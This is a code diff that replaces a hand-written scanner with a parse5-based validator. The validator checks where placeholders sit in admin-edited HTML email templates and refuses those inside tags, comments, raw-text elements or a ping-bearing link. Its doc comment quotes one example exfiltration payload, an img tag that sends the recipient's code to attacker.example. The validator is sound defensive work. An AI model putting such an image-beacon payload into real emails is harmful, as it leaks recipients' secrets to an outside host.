@@ -1,101 +1,142 @@
 /**
- * Where placeholders may sit in an HTML template edited in the admin. Substitution alone
- * is not enough there: `<img src="https://attacker.example/?c=<%= CODE %>">` renders a
- * harmless-looking email whose mail client fetches the image, and with it every
- * recipient's code, on opening. So a placeholder may stand in text only, and the link
- * only as the whole `href` of an `<a>` (no `ping`): nothing in the email then sends a
- * value anywhere by itself.
+ * Where placeholders may sit in an HTML template edited in the admin (or set in config).
+ * Substitution alone is not enough there: `<img src="https://attacker.example/?c=<%= CODE %>">`
+ * renders a harmless-looking email whose mail client fetches the image, and with it
+ * every recipient's code, on opening. So a placeholder may stand in text only, and the
+ * link only as the whole `href` of an `<a>` with no `ping`: nothing in the email then
+ * sends a value anywhere by itself.
+ *
+ * Where a placeholder lands is decided as a browser decides it, never by a scanner of our
+ * own (three hand-written ones were fooled by quotes in unquoted values, bogus comments
+ * and raw-text end tags): the draft is rendered with a unique marker per placeholder,
+ * parsed by parse5 (the WHATWG parsing algorithm, as jsdom uses it), and each marker is
+ * looked for in the tree. A marker the parser dropped (an end tag's attribute, a second
+ * attribute of the same name) counts as misplaced too.
  */
-const PLACEHOLDER_AT = /^<%=\s*([A-Za-z_][A-Za-z0-9_.]*)\s*%>/;
-// Elements whose content is not text a reader sees: CSS can fetch (url()), scripts run.
-const RAW_TEXT = new Set(['style', 'script', 'textarea', 'title', 'xmp', 'iframe', 'noscript', 'noembed', 'noframes']);
+import { defaultTreeAdapter, html as spec, parse, parseFragment, type DefaultTreeAdapterMap } from 'parse5';
+import { PLACEHOLDER } from './template';
 
-type State = 'text' | 'tag' | 'raw' | 'comment';
+type Node = DefaultTreeAdapterMap['node'];
+type Element = DefaultTreeAdapterMap['element'];
+
+/**
+ * Raw-text and escapable raw-text elements, in any namespace (`<svg><style>` is CSS too):
+ * their content is not text a reader sees; CSS can fetch (url(), @import), scripts run.
+ */
+const RAW_TEXT = new Set(['style', 'script', 'textarea', 'title', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext']);
+
+interface Marker {
+  name: string;
+  /** Seen where its value stays in the email as text, or as the link itself. */
+  safe: boolean;
+  /** Seen somewhere else (its reason is already among the problems). */
+  refused: boolean;
+}
+
+type Problems = Set<string>;
 
 /** Each misplaced placeholder, as a reason the admin page shows and the server refuses. */
 export function findMarkupProblems(html: string): string[] {
-  const problems = new Set<string>();
-  let state: State = 'text';
-  let quote: string | null = null;
-  let tagStart = 0;
-  let rawTag = '';
-  for (let i = 0; i < html.length; ) {
-    const placeholder = html.startsWith('<%=', i) ? PLACEHOLDER_AT.exec(html.slice(i)) : null;
-    if (placeholder) {
-      const name = placeholder[1];
-      if (state === 'tag' && !isLinkHref(html, tagStart, i, placeholder[0].length, quote, name)) {
-        problems.add(`<%= ${name} %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)`);
-      } else if (state === 'raw') {
-        problems.add(`<%= ${name} %> inside <${rawTag}>`);
-      } else if (state === 'comment') {
-        problems.add(`<%= ${name} %> inside a comment`);
-      }
-      i += placeholder[0].length;
-      continue;
+  const placeholders = [...html.matchAll(PLACEHOLDER)];
+  if (placeholders.length === 0) return [];
+  const { rendered, markers } = renderWithMarkers(html, placeholders);
+  const problems: Problems = new Set();
+  // A mail client parses the email as a document, a webmail often as a fragment inside
+  // its own page, with scripting on or off (which decides what <noscript> holds): every
+  // reading must find each placeholder in a safe place.
+  const page = defaultTreeAdapter.createElement('div', spec.NS.HTML, []);
+  const readings = [
+    parse(rendered, { scriptingEnabled: true }),
+    parse(rendered, { scriptingEnabled: false }),
+    parseFragment(page, rendered, { scriptingEnabled: false }),
+  ];
+  for (const tree of readings) {
+    for (const marker of markers.values()) marker.safe = false;
+    walk(tree, [], markers, problems);
+    for (const marker of markers.values()) {
+      if (!marker.safe && !marker.refused) problems.add(`<%= ${marker.name} %> where an HTML parser drops or moves it`);
     }
-    const char = html[i];
-    if (state === 'text') {
-      if (html.startsWith('<!--', i)) {
-        state = 'comment';
-        i += 4;
-        continue;
-      }
-      if (char === '<' && /[A-Za-z/!?]/.test(html[i + 1] ?? '')) {
-        state = 'tag';
-        tagStart = i;
-        quote = null;
-      }
-    } else if (state === 'tag') {
-      if (quote) {
-        if (char === quote) quote = null;
-      } else if (char === '"' || char === "'") {
-        quote = char;
-      } else if (char === '>') {
-        const name = /^<([A-Za-z][A-Za-z0-9-]*)/.exec(html.slice(tagStart))?.[1]?.toLowerCase() ?? '';
-        state = RAW_TEXT.has(name) ? 'raw' : 'text';
-        rawTag = name;
-      }
-    } else if (state === 'raw') {
-      if (html.slice(i, i + rawTag.length + 2).toLowerCase() === `</${rawTag}`) {
-        state = 'tag';
-        tagStart = i;
-        quote = null;
-      }
-    } else if (html.startsWith('-->', i)) {
-      state = 'text';
-      i += 3;
-      continue;
-    }
-    i += 1;
   }
   return [...problems];
 }
 
-/** `<a … href="<%= URL %>" …>`: the whole quoted value of an a's href, in a tag without ping. */
-function isLinkHref(html: string, tagStart: number, at: number, length: number, quote: string | null, name: string): boolean {
-  if (name !== 'URL' || quote === null) return false;
-  const before = html.slice(tagStart, at);
-  const tag = before + html.slice(at, tagEnd(html, at + length + 1));
-  return (
-    /^<a\s/i.test(before) &&
-    new RegExp(`\\shref\\s*=\\s*${quote}$`, 'i').test(before) &&
-    html.startsWith(quote, at + length) &&
-    !/\sping\s*=/i.test(tag)
-  );
+function refuse(marker: Marker, problem: string, problems: Problems): void {
+  marker.refused = true;
+  problems.add(problem);
 }
 
-/** Where the tag that continues at `from` (outside any quote) ends: its '>' outside quotes. */
-function tagEnd(html: string, from: number): number {
-  let quote: string | null = null;
-  for (let i = from; i < html.length; i += 1) {
-    const char = html[i];
-    if (quote) {
-      if (char === quote) quote = null;
-    } else if (char === '"' || char === "'") {
-      quote = char;
-    } else if (char === '>') {
-      return i;
+/**
+ * The draft with each placeholder replaced by a marker of lowercase letters and digits
+ * (unchanged by the parser's lowercasing of names, never escaped), found nowhere else.
+ */
+function renderWithMarkers(html: string, placeholders: RegExpMatchArray[]): { rendered: string; markers: Map<string, Marker> } {
+  const lower = html.toLowerCase();
+  let stem = 'plmk';
+  for (let n = 0; lower.includes(stem); n += 1) stem = `plmk${n}x`;
+  const markers = new Map<string, Marker>();
+  let index = 0;
+  const rendered = html.replace(PLACEHOLDER, (_match, name: string) => {
+    const marker = `${stem}q${index}q`;
+    index += 1;
+    markers.set(marker, { name, safe: false, refused: false });
+    return marker;
+  });
+  return { rendered, markers };
+}
+
+function walk(node: Node, ancestors: Element[], markers: Map<string, Marker>, problems: Problems): void {
+  if (node.nodeName === '#text' && 'value' in node) {
+    const rawParent = ancestors.find((element) => RAW_TEXT.has(element.tagName.toLowerCase()));
+    for (const marker of markersIn(node.value, markers)) {
+      if (rawParent) refuse(marker, `<%= ${marker.name} %> inside <${rawParent.tagName.toLowerCase()}>`, problems);
+      else marker.safe = true;
+    }
+    return;
+  }
+  if (node.nodeName === '#comment' && 'data' in node) {
+    for (const marker of markersIn(node.data, markers)) refuse(marker, `<%= ${marker.name} %> inside a comment`, problems);
+    return;
+  }
+  if (node.nodeName === '#documentType' && 'name' in node) {
+    const doctype = `${node.name} ${node.publicId} ${node.systemId}`;
+    for (const marker of markersIn(doctype, markers)) refuse(marker, `<%= ${marker.name} %> inside the doctype`, problems);
+    return;
+  }
+  if ('tagName' in node) checkElement(node, markers, problems);
+  const inside = 'tagName' in node ? [...ancestors, node] : ancestors;
+  if ('childNodes' in node) for (const child of node.childNodes) walk(child, inside, markers, problems);
+  // A <template>'s content is a fragment of its own, not a child.
+  if ('content' in node && node.content) walk(node.content, inside, markers, problems);
+}
+
+/** Markers in a tag: allowed only as the whole href of an HTML <a> with no ping, and for URL only. */
+function checkElement(element: Element, markers: Map<string, Marker>, problems: Problems): void {
+  const inTag = (marker: Marker) =>
+    refuse(marker, `<%= ${marker.name} %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)`, problems);
+  for (const marker of markersIn(element.tagName, markers)) inTag(marker);
+  for (const attribute of element.attrs) {
+    for (const marker of markersIn(`${attribute.prefix ?? ''} ${attribute.name}`, markers)) inTag(marker);
+    const found = markersIn(attribute.value, markers);
+    if (found.length === 0) continue;
+    const whole = markers.get(attribute.value);
+    const isLink = whole?.name === 'URL' && attribute.name === 'href' && !attribute.namespace && isHtmlAnchor(element);
+    if (!whole || !isLink) {
+      for (const marker of found) inTag(marker);
+    } else if (element.attrs.some((other) => other.name === 'ping')) {
+      refuse(whole, '<%= URL %> in an <a> with a ping attribute (a click would post the link elsewhere)', problems);
+    } else {
+      whole.safe = true;
     }
   }
-  return html.length;
+}
+
+function isHtmlAnchor(element: Element): boolean {
+  return element.tagName === 'a' && element.namespaceURI === spec.NS.HTML;
+}
+
+function markersIn(text: string, markers: Map<string, Marker>): Marker[] {
+  if (!text) return [];
+  const found: Marker[] = [];
+  for (const [marker, entry] of markers) if (text.includes(marker)) found.push(entry);
+  return found;
 }
